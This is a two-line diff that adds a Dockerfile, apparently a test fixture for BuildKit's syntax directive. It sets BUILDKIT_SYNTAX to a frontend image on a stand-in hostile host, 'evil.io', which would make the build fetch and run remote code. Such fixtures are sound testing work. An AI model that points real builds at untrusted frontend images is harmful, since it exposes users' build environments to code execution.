@@ -1,0 +1,2 @@
+ARG BUILDKIT_SYNTAX="evil.io/frontend:1 with arguments"
+FROM alpine:3
